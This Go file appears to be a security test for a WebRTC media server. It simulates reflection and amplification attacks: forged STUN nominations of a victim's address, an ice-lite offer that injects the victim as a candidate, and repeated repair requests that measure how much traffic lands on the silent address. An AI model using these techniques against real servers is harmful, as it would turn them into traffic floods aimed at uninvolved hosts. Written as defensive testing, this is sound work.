package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"github.com/pion/ice/v4"
	"github.com/pion/stun/v4"

	"carillon/refusal"
)

// victim is an address that has nothing to do with any call. It counts what is sent there, and
// answers nothing.
type victim struct {
	conn *net.UDPConn
	got  atomic.Int64 // bytes
}

func (w *world) newVictim() (*victim, error) {
	conn, err := udpFrom(victimAddress)
	if err != nil {
		return nil, err
	}
	v := &victim{conn: conn}
	go func() {
		buffer := make([]byte, 2048)
		for {
			n, err := conn.Read(buffer)
			if err != nil {
				return // it was closed
			}
			v.got.Add(int64(n))
		}
	}()
	w.closings = append(w.closings, func() { _ = conn.Close() })
	return v, nil
}

func prepareReflector(ctx context.Context, w *world) error { return w.openOwnCall(ctx, nil) }

// reflector sends requests that nominate the victim's address. Who can forge a source sends
// them from anywhere; here they are sent by the victim's own socket.
func reflector(ctx context.Context, w *world) (string, error) {
	v, err := w.newVictim()
	if err != nil {
		return "", err
	}
	ours, theirs := credentialsOf(w.mallory.pc.LocalDescription()), credentialsOf(w.mallory.pc.RemoteDescription())
	to := net.UDPAddrFromAddrPort(w.server.address("media-udp"))
	nominate := func() (int, error) {
		m, err := stun.Build(stun.BindingRequest, stun.TransactionID, stun.NewUsername(theirs.ufrag+":"+ours.ufrag), ice.UseCandidateAttr{},
			ice.PriorityAttr(2130706431), ice.AttrControlling(9), stun.NewShortTermIntegrity(theirs.password), stun.Fingerprint)
		if err != nil {
			return 0, err
		}
		return v.conn.WriteToUDP(m.Raw, to)
	}
	return w.reflect(ctx, v, nominate)
}

func prepareLite(ctx context.Context, w *world) error {
	err := w.openOwnCall(ctx, func(offer string) string { return strings.Replace(offer, "t=0 0\r\n", "t=0 0\r\na=ice-lite\r\n", 1) })
	if refused, ok := errors.AsType[*refusal.Error](err); ok {
		w.refused, err = string(refused.Code), nil
	}
	return err
}

// lite names the victim's address in a second offer of an agent that says it is lite.
func lite(ctx context.Context, w *world) (string, error) {
	if w.refused != "" {
		<-ctx.Done()
		return "the offer is refused: " + w.refused, nil
	}
	v, err := w.newVictim()
	if err != nil {
		return "", err
	}
	port := v.conn.LocalAddr().(*net.UDPAddr).Port
	first := w.mallory.change
	w.mallory.change = func(offer string) string {
		candidate := fmt.Sprintf("a=candidate:1 1 udp 2130706432 %s %d typ host\r\n", victimAddress, port)
		return strings.Replace(first(offer), "a=end-of-candidates\r\n", candidate+"a=end-of-candidates\r\n", 1)
	}
	if err := w.mallory.offer(ctx); err != nil {
		return "", err
	}
	return w.reflect(ctx, v, nil)
}

// reflect asks for repairs of the picture again and again, and tells how much came to the
// victim for how much was sent. Nominate, if there is one, is called beside that.
func (w *world) reflect(ctx context.Context, v *victim, nominate func() (int, error)) (string, error) {
	const (
		nominateEvery = 50 // rounds
		roundTime     = 5 * time.Millisecond
		packets       = 300 // asked for in a round
	)
	sent := 0
	tick := time.NewTicker(roundTime)
	defer tick.Stop()
	for round := 0; ; round++ {
		if nominate != nil && round%nominateEvery == 0 {
			n, err := nominate()
			if err != nil {
				return "", err
			}
			sent += n
		}
		n, err := w.mallory.askAgain(packets)
		if err != nil {
			return "", err
		}
		sent += n
		select {
		case <-tick.C:
		case <-ctx.Done():
			got := v.got.Load()
			return fmt.Sprintf("sent %s, a silent address got %s (× %.1f)", megabytes(float64(sent)), megabytes(float64(got)), float64(got)/float64(sent)), nil
		}
	}
}
